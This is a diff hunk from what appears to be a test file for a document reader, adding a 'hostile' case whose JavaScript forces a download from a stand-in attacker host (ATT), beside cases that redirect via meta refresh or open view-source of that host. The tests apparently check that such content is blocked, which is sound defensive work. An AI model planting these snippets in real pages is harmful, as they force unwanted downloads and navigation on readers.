@@ -198,6 +198,9 @@ private slots:
                 "var m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                 "m.content = '0;url=' + ATT + '/meta?d=1'; document.head.appendChild(m);"
                 "fin();");
+        hostile("descarga",
+                "var a = document.createElement('a'); a.href = ATT + '/descarga?d=1';"
+                "a.download = 'd.txt'; document.body.appendChild(a); a.click(); fin();");
         hostile("código fuente", "location = 'view-source:' + ATT + '/vs'; fin();");
 
         // What the reader does: a link to the web opens, in this window or another;
